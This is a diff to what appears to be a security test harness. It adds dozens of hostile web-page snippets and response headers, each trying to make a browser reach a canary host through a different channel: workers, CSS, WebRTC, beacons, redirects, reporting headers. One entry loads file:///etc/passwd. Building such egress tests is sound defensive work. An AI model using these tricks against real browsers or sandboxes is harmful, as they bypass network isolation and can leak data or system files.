@@ -2,7 +2,7 @@ import { bytesPage, type Page, redirectPage } from './web-site.ts';
 
 /** Ways in which a page can make a browser reach for an address. `$` is `host:port` of the canary, `~` a number of its own. */
 const TRICKS: Record<string, string> = {
-  iframe: '<iframe src="http://$/"></iframe>',
+  iframe: '<iframe src="http://$/iframe"></iframe>',
   srcdoc: '<iframe srcdoc="<img src=http://$/srcdoc>"></iframe>',
   image:
     '<img src="http://$/img"><img srcset="http://$/srcset 1x"><picture><source srcset="http://$/source"><img></picture>',
@@ -40,6 +40,55 @@ const TRICKS: Record<string, string> = {
     '<img src="/away?to=http://$/r1"><iframe src="/away?to=http://$/r2"></iframe><script src="/away?to=http://$/r3"></script><script>fetch("/away?to=http://$/r4",{mode:"no-cors"}).catch(()=>0)</script>',
   https:
     '<img src="https://$/tls"><iframe src="https://$/tlsframe"></iframe><script>new WebSocket("wss://$/wss")</script>',
+  attributes:
+    '<table background="http://$/tablebg"><td background="http://$/tdbg"></table><input type=image src="http://$/input"><video><track default src="http://$/track"></video><blockquote cite="http://$/cite"></blockquote>',
+  icons:
+    '<link rel=icon href="http://$/icon"><link rel=apple-touch-icon href="http://$/touch"><link rel=manifest href="http://$/manifest"><link rel=search type=application/opensearchdescription+xml href="http://$/search"><link rel=pingback href="http://$/pingback">',
+  preloads:
+    '<link rel=preload as=fetch crossorigin href="http://$/asfetch"><link rel=preload as=font crossorigin href="http://$/asfont"><link rel=preload as=style href="http://$/asstyle"><link rel=prerender href="http://$/oldprerender"><link rel=next href="http://$/next">',
+  ping: '<a id=p~ href="#x" ping="http://$/ping">x</a><script>p~.click()</script>',
+  importmap:
+    '<script type=importmap>{"imports":{"m~":"http://$/mapped.js"}}</script><script type=module>import("m~").catch(()=>0)</script>',
+  dynamicimport: '<script>import("http://$/dynamic.js").catch(()=>0)</script>',
+  nestedworker:
+    '<script>new Worker(URL.createObjectURL(new Blob([`new Worker(URL.createObjectURL(new Blob(["fetch(\\"http://$/nested\\",{mode:\\"no-cors\\"})"])))`])))</script>',
+  moduleworker:
+    '<script>new Worker(URL.createObjectURL(new Blob([`import "http://$/wm.js"`])),{type:"module"})</script>',
+  worklets:
+    '<script>CSS.paintWorklet?.addModule("http://$/paint.js").catch(()=>0);new AudioContext().audioWorklet?.addModule("http://$/audio.js").catch(()=>0)</script>',
+  workerxhr:
+    '<script>new Worker(URL.createObjectURL(new Blob([`x=new XMLHttpRequest;x.open("GET","http://$/wx",false);try{x.send()}catch{};new EventSource("http://$/wes")`])))</script>',
+  websocketstream: '<script>try{new WebSocketStream("ws://$/wss")}catch{}</script>',
+  keepalive:
+    '<script>fetch("http://$/ka",{method:"POST",mode:"no-cors",keepalive:true,body:"x"}).catch(()=>0);addEventListener("pagehide",()=>navigator.sendBeacon("http://$/hide","x"))</script>',
+  styles:
+    '<style>li~{list-style-image:url(http://$/list);cursor:url(http://$/cursor),auto;border-image:url(http://$/border) 1;mask:url(http://$/mask);shape-outside:url(http://$/shape);filter:url(http://$/filter#a);content:url(http://$/content)}i~::after{content:image-set("http://$/set" 1x)}</style><li~ style="background:url(http://$/inline)">x</li~><i~>y</i~>',
+  svgmore:
+    '<svg><image xlink:href="http://$/xlink"/><filter><feImage href="http://$/fe"/></filter><foreignObject><img src="http://$/fo"></foreignObject><script href="http://$/svgjs"/></svg><img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><image href=\'http://$/in\'/></svg>">',
+  written:
+    '<script>document.write("<img src=http://$/written><scr"+"ipt src=http://$/wjs></scr"+"ipt>")</script>',
+  base: '<iframe srcdoc="<base href=http://$/><img src=based><form action=posted></form><script>document.forms[0].submit()</script>"></iframe>',
+  sandboxed:
+    '<iframe sandbox="allow-scripts allow-popups" srcdoc="<script>open(`http://$/sp`);fetch(`http://$/sf`,{mode:`no-cors`})</script>"></iframe>',
+  blank:
+    '<script>w~=open("about:blank");if(w~){w~.document.write("<img src=http://$/blank>");w~.location="http://$/wl"}</script>',
+  iframejs:
+    '<iframe src="javascript:location=`http://$/js`"></iframe><iframe src="data:text/html,<img src=http://$/dataframe>"></iframe>',
+  download: '<a id=d~ download href="http://$/file">x</a><script>d~.click()</script>',
+  formaction:
+    '<iframe name=h~></iframe><form target=h~><button id=b~ formaction="http://$/fa" formmethod=post></button></form><script>b~.click()</script>',
+  schemeless:
+    '<img src="//$/schemeless"><iframe src="\\\\$/backslashes"></iframe><img src="http:/\\$/mixed">',
+  fencedframe:
+    '<script>f~=document.createElement("fencedframe");document.body.append(f~);try{f~.config=new FencedFrameConfig("http://$/ff")}catch{}</script>',
+  beaconworker:
+    '<script>new Worker(URL.createObjectURL(new Blob([`setInterval(()=>fetch("http://$/again",{mode:"no-cors",cache:"no-store"}).catch(()=>0),50)`])))</script>',
+  cache: '<script>caches?.open("a").then(c=>c.add("http://$/cacheadd")).catch(()=>0)</script>',
+  identity:
+    '<script>navigator.credentials?.get({identity:{providers:[{configURL:"http://$/fedcm.json",clientId:"1"}]}}).catch(()=>0)</script>',
+  protocols:
+    '<script>try{navigator.registerProtocolHandler("web+x","http://$/%s")}catch{}</script><a id=t~ href="mailto:x@$">x</a><a id=u~ href="tel:1">x</a><script>t~.click()</script>',
+  turn: '<script>q~=new RTCPeerConnection({iceTransportPolicy:"relay",iceServers:[{urls:"turns:$?transport=tcp",username:"u",credential:"c"}]});q~.createDataChannel("x");q~.createOffer().then(o=>q~.setLocalDescription(o));q~.addIceCandidate({candidate:"candidate:1 1 udp 2130706431 127.0.0.1 "+"$".split(":").pop()+" typ host",sdpMid:"0"}).catch(()=>0)</script>',
   ftp: '<iframe src="ftp://$/"></iframe><iframe src="file:///etc/passwd"></iframe><img src="file:///etc/hostname">',
 };
 
@@ -50,6 +99,31 @@ export function hostilePages(): Record<string, Page> {
       redirectPage(url.searchParams.get('to') ?? '')(request, response, url),
     '/sw.js': bytesPage('self.onfetch = () => 0; fetch("/sw-ran")', { 'content-type': 'text/javascript' }),
     '/tricks': tricks(),
+    '/headers': (_request, response, url) => {
+      const target = url.searchParams.get('at') ?? '';
+      response.setHeader(
+        'link',
+        `<http://${target}/l1>; rel=preload; as=image, <http://${target}/l2>; rel=preconnect, <http://${target}/l3>; rel=stylesheet`,
+      );
+      response.setHeader(
+        'report-to',
+        `{"group":"g","max_age":9,"endpoints":[{"url":"http://${target}/rt"}]}`,
+      );
+      response.setHeader('reporting-endpoints', `g="http://${target}/re"`);
+      response.setHeader('nel', '{"report_to":"g","max_age":9,"success_fraction":1}');
+      response.setHeader(
+        'content-security-policy',
+        `img-src 'none'; report-uri http://${target}/csp; report-to g`,
+      );
+      response.setHeader('alt-svc', `h3="${target}", h2="${target}"`);
+      response.setHeader('sourcemap', `http://${target}/map`);
+      response.setHeader('speculation-rules', `"http://${target}/rules"`);
+      send(response, '<img src=/x>');
+    },
+    '/refresh-header': (_request, response, url) => {
+      response.setHeader('refresh', `0;url=http://${url.searchParams.get('at') ?? ''}/`);
+      send(response, '');
+    },
     '/leave': at('<script>location.href = "http://$/leave"</script>'),
     '/refresh': at('<meta http-equiv="refresh" content="0;url=http://$/main-refresh">'),
   };
